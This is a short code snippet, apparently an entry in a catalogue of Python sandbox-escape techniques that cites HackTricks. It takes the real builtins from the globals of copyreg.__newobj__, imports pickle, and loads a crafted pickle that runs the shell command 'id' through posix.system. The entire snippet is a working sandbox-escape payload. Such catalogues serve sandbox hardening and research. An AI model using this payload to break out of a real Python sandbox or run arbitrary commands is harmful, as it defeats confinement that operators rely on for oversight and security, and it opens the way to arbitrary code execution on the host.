# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Pickle: import arbitrary libraries from a pickle)
# Family: pickle-marshal
# What: object().__reduce_ex__(2) returns copyreg.__newobj__, whose globals hold the real builtins
newobj = object().__reduce_ex__(2)[0]
newobj.__globals__["__builtins__"]["__import__"]("pickle").loads(b"cposix\nsystem\n(S'id'\ntR.")
